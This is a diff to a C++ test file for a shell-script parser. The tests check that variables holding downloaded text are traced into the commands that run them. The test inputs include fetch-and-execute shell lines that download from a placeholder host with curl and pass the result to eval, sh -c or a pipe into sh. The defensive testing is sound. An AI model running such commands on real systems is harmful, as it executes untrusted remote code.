@@ -35,12 +35,20 @@ TEST(ShellVariables, AnArgumentThatIsLeftOutHasItsDefault) {
 }
 
 TEST(ShellVariables, WhatRunsATextRunsWhatACommandWrote) {
-  EXPECT_EQ(last_command("C=$(curl -s https://a.example/c)\neval \"$C\"\n"), "eval|$(curl -s https://a.example/c)");
-  EXPECT_EQ(last_command("C=\"$(curl -s https://a.example/c)\"\nsh -c \"$C\"\n"),
-            "sh|-c|$(curl -s https://a.example/c)");
-  EXPECT_EQ(last_command("C=$(curl -s https://a.example/c)\ntest -n \"$C\"\n"), "test|-n|$C") << "it is only looked at";
-  EXPECT_EQ(last_command("C=$(curl -s https://a.example/c)\nC=true\neval \"$C\"\n"), "eval|$C") << "one of two";
-  EXPECT_EQ(last_command("C=$((1 + 2))\neval \"$C\"\n"), "eval|$C");
+  const auto runs = [](const std::string& script, const std::string& words) {
+    const Parsed parsed(Syntax::kShell, script);
+    for (std::size_t i = 0; i < parsed.commands().size(); ++i) {
+      if (parsed.words(i) == words) return true;
+    }
+    return false;
+  };
+  const std::string fetch = "C=$(curl -s https://a.example/c)\n";
+  EXPECT_TRUE(runs(fetch + "eval \"$C\"\n", "eval|$(curl -s https://a.example/c)"));
+  EXPECT_TRUE(runs(fetch + "sh -c \"$C\"\n", "sh|-c|$(curl -s https://a.example/c)"));
+  EXPECT_TRUE(runs(fetch + "echo \"$C\" | sh\n", "echo|$(curl -s https://a.example/c)"));
+  EXPECT_TRUE(runs(fetch + "test -n \"$C\"\n", "test|-n|$C")) << "it is only looked at";
+  EXPECT_TRUE(runs(fetch + "C=true\neval \"$C\"\n", "eval|$C")) << "one of two";
+  EXPECT_TRUE(runs("C=$((1 + 2))\neval \"$C\"\n", "eval|$C"));
 }
 
 TEST(ShellVariables, WhatARunDecidesStaysAsItIsWritten) {
